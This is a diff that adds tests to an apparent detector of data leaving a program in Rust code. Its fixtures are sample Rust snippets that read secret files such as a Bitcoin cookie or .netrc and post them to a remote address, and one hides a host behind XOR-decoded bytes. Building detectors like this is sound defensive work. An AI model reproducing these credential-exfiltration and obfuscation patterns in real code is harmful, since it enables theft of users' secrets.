@@ -960,6 +960,62 @@ def test_a_call_written_inside_a_macros_arguments() -> None:
     assert {(flow.hidden, flow.fixed) for flow in flows(source)} == {(True, True)}
 
 
+def test_a_method_called_inside_a_macros_arguments() -> None:
+    # `format!("{}", gh.trailer())`: the method's result is among what the macro makes
+    source = (
+        "struct Gh { token: String }\n"
+        "impl Gh {\n"
+        "  fn trailer(&self) -> String {\n"
+        f'    {HOME}    std::fs::read_to_string(home.join("notes.txt")).unwrap()\n  }}\n'
+        "  fn open(&self, body: &str) {\n"
+        '    ureq::post("https://api.example/pulls").send_string(body).ok();\n  }\n}\n'
+        'fn f(gh: &Gh) { let body = format!("Bump.\\n{}", gh.trailer()); gh.open(&body); }\n'
+    )
+    assert [(f.function, f.sources) for f in flows(source)] == [
+        ("open", frozenset({"user-file"}))
+    ]
+
+
+def test_a_function_ending_in_an_if_or_a_match_returns_its_arms() -> None:
+    # the grammar makes a block's last `if` or `match` a statement: it is still the value
+    decoder = (
+        "const EDGE: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
+        "fn edge() -> String { EDGE.iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
+    )
+    send = 'fn f(w: bool) { ureq::post(&format!("https://{}/u", base(w))).call().ok(); }\n'
+    tails = [
+        'fn base(w: bool) -> String { if w { edge() } else { "api.example".into() } }\n',
+        'fn base(w: bool) -> String { match w { true => edge(), _ => "api.example".into() } }\n',
+        "fn base(w: bool) -> String { unsafe { edge() } }\n",
+    ]
+    for tail in tails:
+        assert [(f.action, f.hidden) for f in flows(decoder + tail + send)] == [("contact", True)]
+    # with a `;` after it, the block's value is `()`
+    statement = "fn base(w: bool) -> String { if w { edge() } else { String::new() }; }\n"
+    assert flows(decoder + statement + send) == []
+
+
+def test_a_secret_sent_to_a_service_on_this_machine_does_not_leave_it() -> None:
+    # a node's RPC client sending the cookie the node wrote for it, to 127.0.0.1
+    read = f'fn f() {{\n{HOME}let c = std::fs::read_to_string(home.join(".bitcoin/.cookie")).unwrap();\n'
+    local = read + 'ureq::post("http://127.0.0.1:8332/").set("Authorization", &c).call().ok(); }\n'
+    assert flows(local) == []
+    away = read + 'ureq::post("http://203.0.113.9:8332/").set("Authorization", &c).call().ok(); }\n'
+    assert [f.sources for f in flows(away)] == [frozenset({"user-file"})]
+
+
+def test_iterator_and_text_methods_of_an_address_are_no_contact() -> None:
+    # an address decoded at run time, split and searched in memory, goes nowhere
+    source = (
+        "const EDGE: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
+        "fn f() -> usize {\n"
+        "  let host: String = EDGE.iter().map(|b| (b ^ 0x5a) as char).collect();\n"
+        "  let parts: Vec<&str> = host.split('.').filter(|p| !p.is_empty()).collect();\n"
+        "  parts.iter().position(|p| p.starts_with('x')).unwrap_or(0)\n}\n"
+    )
+    assert flows(source) == []
+
+
 def test_every_argument_given_to_a_network_client_leaves() -> None:
     read = f'fn f() {{\n{HOME}let d = std::fs::read_to_string(home.join(".netrc")).unwrap();\n'
     redis = (
